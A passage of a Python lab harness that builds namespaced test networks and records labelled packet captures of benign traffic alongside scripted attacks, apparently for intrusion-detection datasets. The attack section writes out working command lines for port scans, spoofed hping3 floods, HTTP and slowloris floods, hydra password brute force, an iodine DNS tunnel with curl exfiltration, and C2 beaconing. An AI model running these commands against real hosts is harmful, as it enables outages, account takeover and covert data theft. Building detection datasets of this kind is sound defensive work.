            # multicast/broadcast chatter: mDNS, SSDP, LLMNR, NetBIOS, WS-Discovery
            self.run(h, f"python3 {HERE}/lanchat.py --mode client --name {self.lanname.get(h, h)} "
                        f"--seed {rng.randrange(1 << 30)} --deadline 10", 16, "bg")
        elif k == "ftp":
            u = rng.choice(list(PW))
            self.run(h, f"curl -s -o /dev/null ftp://{u}:{PW[u]}@ftp.lab.test/files/doc{rng.randrange(6)}.dat", 20, "bg")
        elif k == "poll":
            # benign periodic polling (update checks): periodicity alone is not C2
            n, iv = rng.randint(3, 8), rng.uniform(1, 4)
            cmds = []
            for _ in range(n):
                cmds.append(f"curl -sk -o /dev/null https://www.lab.test/status.json")
                cmds.append(f"sleep {iv * rng.uniform(0.9, 1.1):.2f}")
            self.run(h, "; ".join(cmds), 40, "bg")
        else:
            time.sleep(rng.uniform(1, 6))

    def run_side(self, h, cmd, timeout, side):
        """Browser sessions and long-lived connections mostly sit idle, as a
        browser tab does while its user does other things: the worker leaves
        them running (at most two at a time) and goes on with its next action.
        The host counts as busy for attacks until they end."""
        side = [] if side is None else side
        side[:] = [t for t in side if t.is_alive()]
        if len(side) >= 2:
            self.run(h, cmd, timeout, "bg")
            return
        with self.lock:
            self.inflight[h] += 1

        def go():
            try:
                self.run(h, cmd, timeout, "bg")
            finally:
                with self.lock:
                    self.inflight[h] -= 1
        t = threading.Thread(target=go, daemon=True)
        t.start()
        side.append(t)

    def cap(self, d):
        """A long benign action ends a few seconds after the capture's nominal end."""
        return max(5, min(d, int(self.bg_end - time.time()) + 4))

    def ssh_session(self, h, rng):
        u = rng.choice(list(PW))
        cmds = rng.sample(["ls -la", "uptime", "df -h", "cat /etc/hostname", "ps aux | head -5", "whoami",
                           "ls files", "date", "free -m", "echo hello", "uname -a", "id"], rng.randint(2, 5))
        argv = ["ip", "netns", "exec", ns(h), "timeout", "30", "sshpass", "-p", PW[u], "ssh", "-tt",
                "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                "-o", "LogLevel=ERROR", f"{u}@ssh.lab.test"]
        try:
            p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(rng.uniform(1.0, 2.0))
            for c in cmds + ["exit"]:
                for ch in c + "\n":
                    p.stdin.write(ch.encode())
                    p.stdin.flush()
                    time.sleep(rng.uniform(0.04, 0.35))
                time.sleep(rng.uniform(0.3, 3.0))
            p.stdin.close()
            p.wait(timeout=10)
        except Exception:
            try:
                p.kill()
            except Exception:
                pass

    def bg_worker(self, wid, rng, end, max_actions):
        n = 0
        side = []   # this worker's browser sessions left running
        while not self.stop_bg.is_set() and time.time() < end and n < max_actions:
            with self.lock:
                free = [c for c in CLIENTS if c not in self.busy]
                if not free:
                    h = None
                else:
                    h = rng.choice(free)
                    self.inflight[h] += 1
            if h is None:
                time.sleep(0.5)
                continue
            try:
                self.bg_action(h, rng, side=side)
            finally:
                with self.lock:
                    self.inflight[h] -= 1
            n += 1
            self.actions += 1
            time.sleep(rng.expovariate(1 / self.bg_think))
        for t in side:
            t.join()

    # attacks ----------------------------------------------------------------
    def reserve(self, rng, n=1, exclude=()):
        """Take n clients for an attack: no benign traffic from them meanwhile."""
        while True:
            with self.lock:
                free = [c for c in CLIENTS if c not in self.busy and c not in exclude]
                if len(free) >= n:
                    got = rng.sample(free, n)
                    self.busy.update(got)
                    break
            time.sleep(0.5)
        t0 = time.time()
        while time.time() - t0 < 45:
            with self.lock:
                if all(self.inflight[g] == 0 for g in got):
                    break
            time.sleep(0.2)
        time.sleep(0.5)
        return got

    def release(self, hosts):
        time.sleep(3)
        with self.lock:
            self.busy.difference_update(hosts)

    def attack(self, kind, rng, hosts=None):
        """Run one attack scenario; returns its record. hosts: clients already
        reserved by the caller (a behaviour group), which also releases them."""
        s, a, ds = self.scale, self.addr, self.dscale
        srv = ["web", "files", "dns", "ntp", "ext"]
        att = hosts or self.reserve(rng, 3 if kind == "c2" and rng.random() < 0.3 else
                                    2 if kind == "c2" and rng.random() < 0.5 else 1)
        at = att[0]
        ttl = rng.choice([64, 128, 255, 48, 57])
        rec = {"name": kind, "attackers": [a[x] for x in att], "victims": [], "rules": []}
        lab = set(a.values()) | {ip for v in self.extra.values() for ip in v}
        S = {a[x] for x in att}

        def rule(victims, proto=None, bport=None, nonlab=False):
            rec["rules"].append({"a": "nonlab" if nonlab else S, "b": {a[v] for v in victims},
                                 "proto": proto, "bport": bport, "lab": lab})

        cmds = []
        if kind in behaviour.KINDS:
            cmds = behaviour.scenario(self, kind, rng, att, rec)
        elif kind.startswith("nmap") or kind == "masscan":
            rec["label"] = "scan"
            pool = srv + [c for c in CLIENTS if c not in att]
            v = rng.choice(srv) if rng.random() < 0.8 else rng.choice(pool)
            vs = [v]
            T = rng.choice(["-T3", "-T4", "-T4", "-T5"])
            if kind == "nmap-syn":
                rec["tool"] = "nmap"
                if rng.random() < 0.3:
                    vs = rng.sample(pool, rng.randint(3, 6))
                    c = f"nmap -n -Pn -sS {T} --max-retries 1 -p {rng.choice(['21,22,23,25,80,443,445,3389,8080', '1-1024', '22,80,443'])} {' '.join(a[x] for x in vs)}"
                else:
                    ports = f"--top-ports {int(rng.randint(200, 1000) * min(s, 60))}" if rng.random() < 0.6 else f"-p 1-{min(65535, int(rng.randint(1000, 3000) * s))}"
                    c = f"nmap -n {rng.choice(['-Pn', ''])} -sS {T} --max-retries 1 {ports} {a[v]}"
                tmo = 60 * ds
            elif kind == "nmap-connect":
                rec["tool"] = "nmap"
                c = f"nmap -n -Pn -sT {T} --max-retries 1 --top-ports {int(rng.randint(150, 800) * min(s, 60))} {a[v]}"
                tmo = 60 * ds
            elif kind == "nmap-udp":
                rec["tool"] = "nmap"
                c = f"nmap -n -Pn -sU -T4 --max-retries 1 --top-ports {int(rng.randint(40, 120) * min(s, 100))} {a[v]}"
                tmo = 60 * ds
            elif kind == "nmap-version-os":
                rec["tool"] = "nmap"
                v = rng.choice(["web", "files", "ext"])
                vs = [v]
                c = f"nmap -n -Pn -sV --version-light -O --max-os-tries 1 {T} --top-ports {rng.randint(20, 60)} {a[v]}"
                tmo = 90
            else:
                rec["tool"] = "masscan"
                np_, rate = min(65535, int(rng.randint(800, 3000) * s)), rng.randint(300, 1500)
                c = (f"masscan {a[v]} -p1-{np_} --rate {rate} "
                     f"--wait 2 --seed {rng.randrange(1 << 30)} -e eth0 --adapter-ip {a[at]} "
                     f"--adapter-mac {self.mac[at]} --router-mac {self.mac[v]}")
                tmo = np_ / rate + 6  # masscan 1.3.2 may hang in its --wait phase; timeout ends it
            rule(vs)
            rec["victims"] = [a[x] for x in vs]
            cmds = [(at, c, tmo)]
        elif kind in ("syn-flood", "udp-flood", "icmp-flood"):
            rec["label"], rec["tool"] = "dos", "hping3"
            v = rng.choice(srv)
            rec["victims"] = [a[v]]
            spoof = rng.random() < (0.8 if kind == "syn-flood" else 0.4)
            iv = rng.choice([50, 100, 200, 400])
            if kind == "syn-flood":
                port = rng.choice([80, 443, 22] if v in ("web", "ext", "files") else [53, 80, 22])
                n = int(rng.randint(2000, 6000) * s)
                c = f"hping3 -S -p {port} -i u{iv} -c {n} -t {ttl} -w {rng.choice([64, 512, 5840, 29200])} {'--rand-source' if spoof else ''} {a[v]}"
                prot, bport = {6}, {port}
            elif kind == "udp-flood":
                port = rng.choice([53, 123, 0])
                d = rng.randint(0, 400)
                n = int(min(rng.randint(2000, 6000), 700_000 // (d + 70)) * s * self.flood_count)
                pp = f"-p {port}" if port else f"-p ++{rng.randint(1024, 30000)}"
                # Drawn after the draws above so those stay as they were for a seed.
                # Half the floods carry random payload bytes (hping3 reads the data
                # file per packet: fresh bytes from /dev/urandom every packet), the
                # rest hping3's constant filler ('X' bytes, zero entropy; recorded as
                # payload "zero" in the meta.json); some aim at other UDP services
                # (SNMP, SSDP, memcached, QUIC/443, chargen, game/VoIP ports).
                rand_payload = rng.random() < 0.5
                if d == 0 and rand_payload:
                    d = rng.randint(8, 400)
                    n = int(min(n, 700_000 // (d + 70) * s * self.flood_count))
                if rng.random() < 0.3:
                    pp = f"-p {rng.choice([161, 1900, 11211, 443, 19, 5060, 27015])}"
                rec["payload"] = "random" if rand_payload else "zero"
                c = (f"hping3 --udp {pp} -d {d} {'-E /dev/urandom ' if rand_payload else ''}-i u{iv} -c {n} -t {ttl} "
                     f"{'--rand-source' if spoof else ''} {a[v]}")
                prot, bport = {17, 1}, None
            else:
                d = rng.randint(0, 300)
                n = int(min(rng.randint(1500, 4000), 400_000 // (d + 70)) * s)
                c = f"hping3 --icmp -d {d} -i u{iv} -c {n} -t {ttl} {'--rand-source' if spoof else ''} {a[v]}"
                prot, bport = {1}, None
            if spoof:
                rule([v], prot, None if kind != "syn-flood" else bport, nonlab=True)
            rule([v], prot if kind != "udp-flood" else None)
            cmds = [(at, c, 30 + n * iv / 1e6 * 2)]
        elif kind in ("http-flood-ab", "http-flood-wrk", "slowloris", "slowbody"):
            rec["label"] = "dos"
            v = "web"
            rec["victims"] = [a[v]]
            obj = rng.choice(self.small)
            if kind == "http-flood-ab":
                rec["tool"] = "ab"
                c = f"ab -q -n {int(rng.randint(200, 600) * s)} -c {rng.randint(5, 50)} {rng.choice(['-k', ''])} http://{a[v]}{obj}"
                tmo = 60 * ds
            elif kind == "http-flood-wrk":
                rec["tool"] = "wrk"
                delay, conns, secs, threads, extra = max(2, int(rng.randint(40, 100) / s)), rng.randint(8, 20), int(rng.randint(2, 3) * ds), 2, ""
                if self.http_vary:
                    # attack-httpflood: floods unlike each other per connection. Connections 2-48,
                    # 1-4 threads, 2-4 s, GET/HEAD/POST, with or without a cache-busting query; the
                    # per-connection delay follows from a request budget (400-1,200 x scale, to keep the capture small), so a
                    # few connections flood fast (a few ms apart) and many connections flood slowly.
                    conns, threads, secs = rng.randint(2, 48), rng.randint(1, 4), int(rng.randint(2, 4) * ds)
                    budget = rng.randint(400, 1200) * s
                    delay = max(2, int(conns * secs * 1000 / budget))
                    rec["method"] = rng.choice(["GET", "GET", "GET", "HEAD", "POST"])
                    rec["cache_bust"] = rng.random() < 0.5
                    extra = f"WRK_METHOD={rec['method']} WRK_BUST={int(rec['cache_bust'])} "
                rec["connections"], rec["delay_ms"] = conns, delay
                c = (f"{extra}WRK_DELAY_MS={delay} wrk -t {min(threads, conns)} -c {conns} "
                     f"-d {secs}s -s {HERE}/wrk-delay.lua http://{a[v]}{obj}")
                tmo = 10 + 5 * ds * (2 if self.http_vary else 1)
            elif kind == "slowloris":
                rec["tool"] = "slowhttptest"
                L = int(rng.randint(18, 30) * ds)
                c = (f"slowhttptest -H -c {int(rng.randint(100, 400) * min(s, 10))} -i {rng.randint(5, 15)} -r {rng.randint(30, 150)} "
                     f"-l {L} -x {rng.randint(10, 40)} -p 3 -t GET -u http://{a[v]}/")
                tmo = L + 15
            else:
                rec["tool"] = "slowhttptest"
                L = int(rng.randint(18, 30) * ds)
                c = (f"slowhttptest -B -c {int(rng.randint(100, 400) * min(s, 10))} -i {rng.randint(5, 15)} -r {rng.randint(30, 150)} "
                     f"-s {rng.randint(4096, 65536)} -l {L} -x {rng.randint(10, 40)} -p 3 -t POST -u http://{a[v]}/login")
                tmo = L + 15
            rule([v], {6})
            cmds = [(at, c, tmo)]
        elif kind.startswith("hydra"):
            rec["label"], rec["tool"] = "bruteforce", "hydra"
            nw = int(rng.randint(40, 150) * s)
            words = rng.sample(self.wordpool, min(nw, len(self.wordpool)))
            if kind == "hydra-ssh":
                v, u = "files", rng.choice(list(PW) + ["root", "admin"])
                if u in PW and rng.random() < 0.5:
                    words.insert(rng.randrange(len(words)), PW[u])
                url, t, tmo = f"ssh://{a[v]}", rng.randint(2, 6), 45 * ds
            elif kind == "hydra-ftp":
                v, u = "files", rng.choice(list(PW))
                if rng.random() < 0.5:
                    words.insert(rng.randrange(len(words)), PW[u])
                url, t, tmo = f"ftp://{a[v]}", rng.randint(4, 10), 40 * ds
            else:
                v, u = "web", "admin"
                if rng.random() < 0.5:
                    words.insert(rng.randrange(len(words)), ADMIN_PW)
                url, t, tmo = f"http-get://{a[v]}/admin/", rng.randint(4, 16), 40 * ds
            wl = f"{self.work}/wl-{rng.randrange(1 << 30)}.txt"
            open(wl, "w").write("\n".join(words) + "\n")
            hd = f"{self.work}/hydra-{rng.randrange(1 << 30)}"  # own cwd: no shared hydra.restore
            c = f"mkdir -p {hd} && cd {hd} && hydra -I -q -l {u} -P {wl} -t {t} {'-f' if rng.random() < 0.5 else ''} {url}"
            rec["victims"] = [a[v]]
            rule([v], {6})
            cmds = [(at, c, tmo)]
        elif kind == "webattack":
            rec["label"], rec["tool"] = "webattack", "webattack.py (python http.client)"
            v = "web"
            rec["victims"] = [a[v]]
            c = (f"python3 {HERE}/webattack.py --target {a[v]} --count {int(rng.randint(150, 400) * s)} "
                 f"--deadline {int(40 * ds)} --delay {rng.choice([0.02, 0.05, 0.1, 0.3])} --seed {rng.randrange(1 << 30)}")
            rule([v], {6})
            cmds = [(at, c, 45 * ds)]
        elif kind == "dns-tunnel":
            rec["label"], rec["tool"] = "tunnel", "iodine"
            rec["victims"] = [a["dns"], a["tun"]]
            T = rng.choice(["NULL", "NULL", "TXT", "CNAME", "MX"])
            dur = int(rng.randint(20, 35) * ds)
            up = rng.randint(20, 120) * 1000
            c = (f"iodine -f -r -P {TUN_PW} -T {T} -m 1000 {a['dns']} {TUN_DOMAIN} & IOD=$!; "
                 f"for i in $(seq 1 40); do ip -4 addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done; "
                 f"ip -4 addr show dns0 | grep -q inet || echo 'iodine: no tunnel' >&2; "
                 f"head -c {up} /dev/urandom > /tmp/fs-exfil-{at}.bin; "
                 f"curl -s --max-time {dur // 2} -o /dev/null http://172.31.99.1:8000/blob/{rng.randint(20, 150) * 1000}; "
                 f"curl -s --max-time {dur // 2} -o /dev/null --data-binary @/tmp/fs-exfil-{at}.bin http://172.31.99.1:8000/up; "
                 f"sleep {rng.randint(2, 6)}; kill $IOD; wait $IOD; rm -f /tmp/fs-exfil-{at}.bin")
            rule(["dns"], {17})
            rec["rules"].append({"a": {a["dns"]}, "b": {a["tun"]}, "proto": {17}, "bport": None, "lab": lab})
            cmds = [(at, c, dur * 2 + 40)]
        elif kind == "c2":
            rec["label"], rec["tool"] = "c2", "beacon.py (python https)"
            rec["victims"] = [a["ext"]]
            dl = int(rng.randint(40, 70) * ds)
            for x in att:
                iv = rng.choice([1.5, 2, 3, 5, 8])
                c = (f"python3 {HERE}/beacon.py --server {a['ext']} --port 443 --interval {iv} "
                     f"--jitter {rng.uniform(0.05, 0.5):.2f} --count {int(dl / iv) + 2} --deadline {dl} "
                     f"--path /{rng.choice(['api/v2/sync', 'cdn/pixel', 'update/check', 'telemetry'])} --seed {rng.randrange(1 << 30)}")
                cmds.append((x, c, dl + 20))
            rule(["ext"], {6})
        else:
            raise ValueError(kind)

        rec["command"] = " ; ".join(c for _, c, _ in cmds)
        log(f"  attack {kind} from {','.join(rec['attackers'])} -> {','.join(rec['victims'])}: {rec['command'][:160]}")
        rec["start"] = time.time()
        threads = [threading.Thread(target=self.run, args=(h, c, t, kind), daemon=True) for h, c, t in cmds]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        rec["end"] = time.time()
        log(f"  attack {kind} done in {rec['end'] - rec['start']:.1f}s")
        with self.lock:
            self.scen.append(rec)
        if not hosts:
            self.release(att)
        return rec

    # ---------------------------------------------------------------- capture
    def capture(self, name, plan, outdir):
        """plan: dict(duration, workers, attacks=[(offset or None, kind)], sequential)."""
        rng = random.Random(f"{self.seed}:{name}")
        s = self.scale
        log(f"== capture {name} (seed {self.seed}, scale {s})")
        self.readdress(rng, name)
        self.restart_dns()
        wide_meta = None
        if plan.get("wide"):     # broad benign captures: the capture's domain randomisation (benignwide.py)
            wide_meta = benignwide.randomise(self, name, plan)
        elif self.wide:
            benignwide.reset(self)
        self.scen, self.busy, self.actions = [], set(), 0
        self.flood_count = plan.get("flood_count", 1.0)   # multiplies udp-flood counts (small captures)
        self.http_vary = plan.get("http_vary", False)     # varied wrk floods (attack-httpflood)
        self.bg_think = plan.get("bg_think", 1.5)
        self.bg_skip = set(plan.get("bg_skip", ()))
        self.stop_bg.clear()
        pcap = os.path.join(outdir, f"{name}.pcap")
        if os.path.exists(pcap):
            os.remove(pcap)
        tcpd = subprocess.Popen(["ip", "netns", "exec", BR, "tcpdump", "-i", "br0", "-w", pcap, "-U", "-Z", "root",
                                 "-B", "16384"], stdout=subprocess.DEVNULL, stderr=open(f"{self.work}/tcpdump.log", "ab"),
                                start_new_session=True)
        self.procs.append(tcpd)
        time.sleep(2 + rng.uniform(0, 2))
        t0 = time.time()
        dur = plan["duration"] * self.dscale
        self.bg_end = t0 + dur
        workers = [threading.Thread(target=self.bg_worker,
                                    args=(i, random.Random(f"{self.seed}:{name}:bg{i}"), t0 + dur,
                                          int(400 * s)), daemon=True)
                   for i in range(int(plan["workers"] * (1 if s <= 1 else min(4, 1 + math.log2(s)))))]
        for w in workers:
            w.start()
        # behaviour groups (behaviour.py): scenarios sharing one reserved client, long in time
        groups = [threading.Thread(target=behaviour.run_group, args=(self, g, f"{self.seed}:{name}:{g['name']}"),
                                   daemon=True) for g in plan.get("groups", [])]
        for g in groups:
            g.start()
        wide = threading.Thread(target=benignwide.run, args=(self, name, t0, dur), daemon=True) if plan.get("wide") else None
        if wide:
            wide.start()
        attacks = list(plan.get("attacks", []))
        # one RNG per attack: a kind's first run keeps its old seed, repeats get "#2", "#3", ...
        seen = {}
        for i, k in enumerate(attacks):
            seen[k] = seen.get(k, 0) + 1
            attacks[i] = (k, f"{self.seed}:{name}:{k}" + (f"#{seen[k]}" if seen[k] > 1 else ""))
        time.sleep(rng.uniform(4, 10))
        if plan.get("sequential"):
            rng.shuffle(attacks)
            for kind, seed in attacks:
                self.attack(kind, random.Random(seed))
                time.sleep(rng.uniform(2, 8))
        else:
            ths = []
            span = max(5.0, dur - 45)
            for kind, seed in attacks:
                off = rng.uniform(0, span)
                th = threading.Thread(target=lambda k=kind, o=off, sd=seed: (time.sleep(o), self.attack(k, random.Random(sd))),
                                      daemon=True)
                th.start()
                ths.append(th)
            for th in ths:
                th.join()
        for g in groups:
            g.join()
        if wide:
            wide.join()
        # let the background run to the end of the capture's duration
        while time.time() < t0 + dur:
            time.sleep(0.5)
        self.stop_bg.set()
        for w in workers:
            w.join()
        time.sleep(3)
        tcpd.send_signal(signal.SIGINT)
        tcpd.wait(timeout=20)
        self.procs.remove(tcpd)
        # ground truth
        fls = pcapflows.label_flows(pcapflows.flows(pcap), self.scen)
        pcapflows.write_csv(fls, os.path.join(outdir, f"{name}.labels.csv"))
        counts = {}
        for f in fls:
            c = counts.setdefault(f["label"], [0, 0])
            c[0] += 1
            c[1] += f["packets"]
        log(f"  {name}: {sum(c[1] for c in counts.values())} IP packets, {len(fls)} flows, "
            + ", ".join(f"{k}={v[0]}f/{v[1]}p" for k, v in sorted(counts.items())) + f", bg actions {self.actions}")
        return {"capture": name, "seed": self.seed, "scale": s, "date": datetime.datetime.utcnow().strftime("%Y-%m-%dT%H:%M:%SZ"),
                "duration_s": round(time.time() - t0, 1), "bytes": os.path.getsize(pcap),
                "packets": sum(c[1] for c in counts.values()), "flows": len(fls), "counts": counts,
                "scenarios": [{k: (sorted(v) if isinstance(v, set) else v) for k, v in sc.items() if k != "rules"}
                              for sc in self.scen],
                **({"randomisation": wide_meta} if wide_meta else {})}


PLANS = {
    "benign-1": {"duration": 45, "workers": 4},
    "benign-2": {"duration": 40, "workers": 3},
    "benign-3": {"duration": 35, "workers": 4},
    "attack-scan": {"duration": 30, "workers": 2, "sequential": True,
                    "attacks": ["nmap-syn", "nmap-connect", "nmap-udp", "nmap-version-os", "masscan"]},
    "attack-dos": {"duration": 30, "workers": 2, "sequential": True,
                   "attacks": ["syn-flood", "udp-flood", "icmp-flood", "http-flood-ab", "http-flood-wrk",
                               "slowloris", "slowbody"]},
    "attack-bruteforce-web": {"duration": 30, "workers": 2, "sequential": True,
                              "attacks": ["hydra-ssh", "hydra-ftp", "hydra-http", "webattack"]},
    "attack-tunnel-c2": {"duration": 60, "workers": 3, "attacks": ["dns-tunnel", "c2"]},
    # UDP floods only, seven seeded runs (spoofed or not, random or zero payload bytes,
    # sizes, rates, victims, ports), counts ×0.6 to keep the capture small
    "attack-udpflood": {"duration": 30, "workers": 2, "sequential": True, "flood_count": 0.6,
                        "attacks": ["udp-flood"] * 7},
    # HTTP floods only (made on request; issue 18: the held-out wrk flood is what the turns
    # view lost): seven wrk floods varied per connection (http_vary above) and three ab
    # floods, with benign background, so the dos class has more than one rate, method and
    # connection count.
    "attack-httpflood": {"duration": 30, "workers": 2, "sequential": True, "http_vary": True,
                         "attacks": ["http-flood-wrk"] * 7 + ["http-flood-ab"] * 3},
}
SCAN = ["nmap-syn", "nmap-connect", "nmap-udp", "masscan", "nmap-version-os"]
DOS = ["syn-flood", "udp-flood", "icmp-flood", "http-flood-ab", "http-flood-wrk", "slowloris", "slowbody"]
BRUTE = ["hydra-ssh", "hydra-ftp", "hydra-http"]


def mixed_plan(name, seed):
    r = random.Random(f"{seed}:{name}:plan")
    att = [r.choice(SCAN), r.choice(DOS), r.choice(BRUTE), "webattack", "dns-tunnel", "c2"]
    if r.random() < 0.5:
        att.append(r.choice(SCAN + DOS))
    return {"duration": 70, "workers": 4, "attacks": att}


def cleanup_namespaces():
    r = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True)
    for line in r.stdout.splitlines():
        n = line.split()[0] if line.strip() else ""
        if n == BR or (n.startswith("fs-") and (n[3:] in HOSTS or n[3:] in benignwide.HOSTS)):
            # kill whatever still runs inside, then delete
            pids = subprocess.run(["ip", "netns", "pids", n], capture_output=True, text=True).stdout.split()
            for p in pids:
                try:
                    os.kill(int(p), signal.SIGKILL)
                except Exception:
                    pass
            subprocess.run(["ip", "netns", "del", n], capture_output=True)
            shutil.rmtree(f"/etc/netns/{n}", ignore_errors=True)


def main():
    global LOG
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=20261122)
    ap.add_argument("--scale", type=float, default=1.0,
                    help="multiply counts (flood packets, requests, scanned ports, words) and stretch durations")
    ap.add_argument("--out", default="captures", help="directory for .pcap and .labels.csv")
    ap.add_argument("--work", default="/tmp/fs-lab-work", help="scratch directory (configs, logs)")
    ap.add_argument("--only", default="", help="comma list of capture names (default: all)")
    ap.add_argument("--prefix", default="", help="prefix for capture file names (e.g. bench-)")
    ap.add_argument("--attacks", default="", help="debug: one short capture 'probe' running these attacks")
    ap.add_argument("--cleanup", action="store_true", help="only remove lab namespaces and exit")
    args = ap.parse_args()
    if args.cleanup:
        cleanup_namespaces()
        return 0
    if os.geteuid() != 0:
        sys.exit("run as root")
    plans = dict(PLANS)
    for m in ("mixed-1", "mixed-2", "mixed-3"):
        plans[m] = mixed_plan(m, args.seed)
    plans["demo"] = {"duration": 30, "workers": 2, "attacks": ["nmap-syn", "c2", "hydra-ssh"]}
    # benchmark capture (not made by default): benign background with every attack,
    # meant for --scale N --out lab-out
    plans["bench"] = {"duration": 60, "workers": 4, "attacks": SCAN + DOS + BRUTE + ["webattack", "dns-tunnel", "c2"]}
    # behaviour captures (issue 16; not made by default, only with --only): slow attacks
    # visible only across flows, and benign look-alikes of them (behaviour.py)
    plans.update(behaviour.PLANS)
    # broad benign captures (issue 17; only with --only): many services by real tools, a
    # domain randomisation per capture (benignwide.py)
    plans.update(benignwide.plans(args.seed))
    on_request = {"bench", "attack-httpflood"} | set(behaviour.PLANS) | set(benignwide.NAMES)
    if args.attacks:
        plans["probe"] = {"duration": 10, "workers": 1, "sequential": True, "attacks": args.attacks.split(",")}
        args.only = "probe"
    names = [x for x in args.only.split(",") if x] or [p for p in plans if p not in on_request]
    for n in names:
        if n not in plans:
            sys.exit(f"unknown capture {n}; known: {', '.join(plans)}")
    shutil.rmtree(args.work, ignore_errors=True)
    os.makedirs(args.work)
    os.makedirs(args.out, exist_ok=True)
    LOG = open(os.path.join(args.work, "lab.log"), "a")
    lab = Lab(args)
    lab.behaviour = any(n in behaviour.PLANS or plans[n].get("groups") or
                        any(k in behaviour.KINDS for k in plans[n].get("attacks", [])) for n in names)
    lab.wide = any(plans[n].get("wide") for n in names)
    atexit.register(lab.cleanup)
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, lambda *a: sys.exit(130))
    t_start = time.time()
    lab.build()
    lab.make_content()
    lab.readdress(random.Random(f"{args.seed}:boot"))
    lab.start_servers()
    meta = []
    for n in names:
        m = lab.capture(args.prefix + n, plans[n], args.out)
        meta.append(m)
        with open(os.path.join(args.out, f"{args.prefix}{n}.meta.json"), "w") as f:
            json.dump(m, f, indent=1, default=str)
    lab.cleanup()
    # manifest (one row per capture made in this run)
    man = os.path.join(args.out, "manifest.csv")
    rows = {}
    if os.path.exists(man):
        for r in csv.DictReader(open(man)):
            rows[r["capture"]] = r
    for m in meta:
        rows[m["capture"]] = {"capture": m["capture"], "seed": m["seed"], "scale": m["scale"], "date": m["date"],
                              "duration_s": m["duration_s"], "bytes": m["bytes"], "packets": m["packets"],
                              "flows": m["flows"],
                              **{f"flows_{l}": m["counts"].get(l, [0, 0])[0] for l in pcapflows.LABELS},
                              "scenarios": " ".join(sc["name"] for sc in m["scenarios"])}
    cols = ["capture", "seed", "scale", "date", "duration_s", "bytes", "packets", "flows"] + \
        [f"flows_{l}" for l in pcapflows.LABELS] + ["scenarios"]
    with open(man, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=cols)
        w.writeheader()
        for k in sorted(rows):
            w.writerow(rows[k])
    log(f"lab finished in {time.time() - t_start:.0f}s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
